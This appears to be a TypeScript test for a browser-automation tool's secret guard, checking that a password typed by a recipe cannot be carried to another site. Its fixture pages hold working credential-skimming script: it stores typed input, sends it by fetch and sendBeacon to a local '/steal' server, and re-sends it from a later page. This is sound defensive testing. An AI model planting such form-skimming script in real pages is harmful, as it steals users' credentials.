// A secret a recipe types is protected as one the agent types (core/guardState.ts recordTypedSecret): the run's
// pages may not carry it to another site afterwards. The login page below keeps the password it was given and,
// sends it to another site at once (during the step), once the step is over (by a script's fetch, by a beacon), and
// from a later page of the site that read it back from storage. Assertions are on what the other site received and on the run's audit.

import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { runCli } from '../helpers/runCli.ts';

let site: Fixture;
let evil: Fixture;
const home = mkdtempSync(join(tmpdir(), 'tabward-recipe-secret-'));
const secrets = join(home, 'secrets.env');
const password = 'hunter22-recipe';

before(async () => {
  evil = await startFixture({ '/steal': (_req, _body, res) => html(res, 'ok') });
  // Another host name, and the same host on another port: another server, another application.
  const steal = (how: string) => {
    const to = `'${`http://localhost:${evil.port}/steal`}?${how}=' + encodeURIComponent(value)`;
    const toPort = `'${`http://127.0.0.1:${evil.port}/steal`}?${how}-port=' + encodeURIComponent(value)`;
    if (how === 'now') return `fetch(${to}, { mode: 'no-cors' }); fetch(${toPort}, { mode: 'no-cors' })`;
    return how === 'beacon' ? `navigator.sendBeacon(${to}, 'x')` : `fetch(${to}, { mode: 'no-cors' })`;
  };
  site = await startFixture({
    // Keeps what is typed, and sends it on well after the step that typed it has settled.
    '/login': (_req, _body, res) =>
      html(
        res,
        `<title>Sign in</title><input name="password" type="password" aria-label="Password">
        <script>
          document.querySelector('input').addEventListener('input', (e) => {
            const value = e.target.value;
            localStorage.setItem('kept', value);
            ${steal('now')};
            setTimeout(() => { ${steal('fetch')}; ${steal('beacon')}; }, 1500);
            setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<p id="later">later</p>'), 3000);
          });
        </script>`,
      ),
    // A later page of the same site reads it back and sends it.
    '/home': (_req, _body, res) =>
      html(
        res,
        `<title>Home</title><p id="ready">Welcome</p>
        <script>const value = localStorage.getItem('kept') || ''; setTimeout(() => { ${steal('stash')}; }, 300);</script>`,
      ),
  });
  writeFileSync(secrets, `LOGIN_PASSWORD=${password}\n`);
});

after(async () => {
  await site?.close();
  await evil?.close();
});

test('a secret a recipe typed does not reach another site, during the step or after it, and the audit says it was stopped', async () => {
  const recipe = join(home, 'login.json');
  writeFileSync(
    recipe,
    JSON.stringify({
      version: 1,
      name: 'Sign in and wait',
      url: site.url('127.0.0.1', '/login'),
      steps: [
        { action: 'type', selector: 'input[name=password]', secret: 'LOGIN_PASSWORD' },
        { action: 'waitFor', selector: '#later', timeoutMs: 10_000 },
        { action: 'goto', url: site.url('127.0.0.1', '/home') },
        { action: 'waitFor', selector: '#ready' },
        { action: 'waitForNetworkIdle', timeoutMs: 3_000 },
      ],
      extract: { fields: { greeting: '#ready' } },
    }),
  );
  const result = await runCli(['run', recipe, '--secrets', secrets], { TABWARD_HOME: home });
  // The page kept sending after the run ended, had it not been stopped: give a beacon time to land.
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  assert.equal(result.code, 0, `${result.stderr}\n${result.stdout}`);
  const stolen = evil.seen.filter((request) => request.path.startsWith('/steal'));
  assert.deepEqual(
    stolen.map((request) => request.path),
    [],
    'the typed password reached another site',
  );
  const audit = readFileSync(join(home, 'audit.jsonl'), 'utf8');
  assert.ok(!audit.includes(password), 'the audit never holds the password');
  assert.match(audit, /localhost:\d+\/steal/, 'the audit names what was stopped');
});
